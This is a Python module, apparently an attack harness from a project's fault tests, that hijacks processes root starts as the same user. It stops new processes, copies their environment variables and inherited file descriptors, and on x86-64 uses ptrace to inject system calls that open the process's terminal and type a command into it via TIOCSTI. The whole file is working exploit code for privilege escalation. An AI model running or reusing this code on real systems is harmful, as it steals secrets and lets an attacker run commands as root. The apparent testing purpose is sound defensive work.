"""Gets into processes of its own user that somebody else has started: root, above all.

Whoever starts a process as another user hands it to all other processes of that user. They can
stop it before it has done anything (ptrace(2)), read its environment and its descriptors, and make
it do what it may do: open the terminal that it has inherited, and type there (TIOCSTI).
"""

from __future__ import annotations

import ctypes
import os
import platform
import re
import signal
import time
from contextlib import suppress

from tests.faults.loot import COMMAND, Loot

_TIOCSTI = 0x5412
_ATTACH, _DETACH, _STEP = 16, 17, 9
_GET_REGISTERS, _SET_REGISTERS = 12, 13
_PEEK, _POKE = 1, 4
_WALL = 0x40000000
# Numbers of system calls, and the instruction that makes one, on the only architecture that the
# intruder can write code for. On others, what it reads has to do.
_OPEN, _IOCTL = 2, 16
_SYSCALL = 0x050F
_CAN_INJECT = platform.machine() == "x86_64"
# A process that was started as root may become ours for so long; then it is not looked at again.
_SECONDS = 0.5
# A process needs longer than this to begin; and the machine is to have time for others.
_PAUSE = 0.0002
_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.ptrace.restype = ctypes.c_long
_LIBC.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)


class _Registers(ctypes.Structure):
    """struct user_regs_struct of x86-64."""

    _fields_ = tuple(
        (name, ctypes.c_ulonglong)
        for name in (
            *("r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8"),
            *("rax", "rcx", "rdx", "rsi", "rdi", "orig_rax", "rip", "cs", "eflags"),
            *("rsp", "ss", "fs_base", "gs_base", "ds", "es", "fs", "gs"),
        )
    )


def watch(loot: Loot, hold: bool) -> None:
    """Wait for processes for ever. With `hold`, one that was caught never goes on."""
    last = _last_pid()
    waiting: dict[int, float] = {}
    while True:
        newest = _last_pid()
        if newest != last:
            until = time.monotonic() + _SECONDS
            new = [pid for pid in range(last + 1, newest + 1) if _is_process(pid)]
            waiting |= dict.fromkeys(new, until)
            last = newest
        elif not waiting:
            time.sleep(_PAUSE)
        for pid in list(waiting):
            try:
                os.kill(pid, signal.SIGSTOP)
            except PermissionError:  # not ours, or not yet
                if time.monotonic() > waiting[pid]:
                    del waiting[pid]
                continue
            except ProcessLookupError:
                del waiting[pid]
                continue
            del waiting[pid]
            with suppress(OSError):
                _get_into(pid, loot)
            if not (hold and _is_roots(pid)):
                with suppress(OSError):
                    os.kill(pid, signal.SIGCONT)


def _last_pid() -> int:
    with open("/proc/loadavg") as file:
        return int(file.read().split()[-1])


def _is_process(pid: int) -> bool:
    """Whether it is none of the threads, which have numbers too."""
    with suppress(OSError):
        return _status(pid, "Tgid") == str(pid)
    return False


def _get_into(pid: int, loot: Loot) -> None:
    """Take what there is to be had of a process that is stopped."""
    # Between its becoming ours and its becoming another program, the kernel protects it.
    until = time.monotonic() + _SECONDS
    while True:
        try:
            environment = _read(pid, "environ")
            break
        except PermissionError:
            if time.monotonic() > until:
                raise
            os.kill(pid, signal.SIGCONT)
            time.sleep(0.00002)
            os.kill(pid, signal.SIGSTOP)
    name = _read(pid, "cmdline").replace("\0", " ")[:80]
    for entry in environment.split("\0"):
        loot.keep("environment", entry)
    for target in _descriptors(pid):
        # What has been opened for it, and could not be opened by it.
        if target.startswith("/") and not target.startswith("/dev/") and not _can_open(target):
            loot.keep("descriptor", f"{name}: {target}")
    if _terminal(pid) == 0:
        return
    if not _CAN_INJECT:
        loot.keep("terminal", name)
        return
    with _Traced(pid) as traced:
        terminal = traced.call(_OPEN, traced.put(b"/dev/tty\0"), os.O_RDWR)
        if terminal < 0:
            return
        loot.keep("terminal", name)
        for letter in f" {COMMAND}\n".encode():
            if traced.call(_IOCTL, terminal, _TIOCSTI, traced.put(bytes([letter]))) < 0:
                return
        loot.keep("typed", name)


def _read(pid: int, name: str) -> str:
    with open(f"/proc/{pid}/{name}", errors="replace") as file:
        return file.read()


def _is_roots(pid: int) -> bool:
    """Whether root, or systemd for root, has started the process."""
    with suppress(OSError):
        parent = int(_status(pid, "PPid"))
        return _status(parent, "Uid") == "0"
    return False


def _status(pid: int, key: str) -> str:
    found = re.search(rf"^{key}:\s+(\d+)", _read(pid, "status"), re.MULTILINE)
    return found[1] if found else ""


def _terminal(pid: int) -> int:
    """The number of the controlling terminal; 0 for none (proc_pid_stat(5))."""
    return int(_read(pid, "stat").rpartition(")")[2].split()[4])


def _descriptors(pid: int) -> list[str]:
    found = []
    for name in os.listdir(f"/proc/{pid}/fd"):
        with suppress(OSError):
            found.append(os.readlink(f"/proc/{pid}/fd/{name}"))
    return found


def _can_open(path: str) -> bool:
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    except OSError:
        return False
    return True


class _Traced:
    """A process that makes system calls for us; leaving lets it go on with its own."""

    def __init__(self, pid: int) -> None:
        self._pid = pid

    def __enter__(self) -> _Traced:
        self._ptrace(_ATTACH)
        os.waitpid(self._pid, _WALL)
        self._saved = self._registers()
        self._code = self._peek(self._saved.rip)
        self._poke(self._saved.rip, (self._code & ~0xFFFF) | _SYSCALL)
        return self

    def __exit__(self, *error: object) -> None:
        self._poke(self._saved.rip, self._code)
        self._ptrace(_SET_REGISTERS, 0, ctypes.addressof(self._saved))
        self._ptrace(_DETACH)

    def put(self, data: bytes) -> int:
        """Write some bytes where the process has no use for them; returns their address."""
        address: int = self._saved.rsp - 4096
        for offset in range(0, len(data), 8):
            word = int.from_bytes(data[offset : offset + 8].ljust(8, b"\0"), "little")
            self._poke(address + offset, word)
        return address

    def call(self, number: int, *arguments: int) -> int:
        """Make a system call; returns what it returns, negative for an error."""
        registers = _Registers.from_buffer_copy(self._saved)
        for name, value in zip(("rdi", "rsi", "rdx"), arguments, strict=False):
            setattr(registers, name, value)
        registers.rax, registers.orig_rax = number, ctypes.c_ulonglong(-1).value
        self._ptrace(_SET_REGISTERS, 0, ctypes.addressof(registers))
        self._step()
        return ctypes.c_long(self._registers().rax).value

    def _registers(self) -> _Registers:
        registers = _Registers()
        self._ptrace(_GET_REGISTERS, 0, ctypes.addressof(registers))
        return registers

    def _peek(self, address: int) -> int:
        ctypes.set_errno(0)
        word: int = _LIBC.ptrace(_PEEK, self._pid, address, 0)
        if ctypes.get_errno():
            raise OSError(ctypes.get_errno(), "ptrace")
        return ctypes.c_ulonglong(word).value

    def _poke(self, address: int, word: int) -> None:
        self._ptrace(_POKE, address, ctypes.c_ulonglong(word).value)

    def _ptrace(self, request: int, address: int = 0, data: int = 0) -> None:
        if _LIBC.ptrace(request, self._pid, address, data) < 0:
            raise OSError(ctypes.get_errno(), "ptrace")

    def _step(self) -> None:
        """One instruction, however many signals are still to come."""
        while True:
            self._ptrace(_STEP)
            _, status = os.waitpid(self._pid, _WALL)
            if not os.WIFSTOPPED(status):
                raise ProcessLookupError
            if os.WSTOPSIG(status) == signal.SIGTRAP:
                return
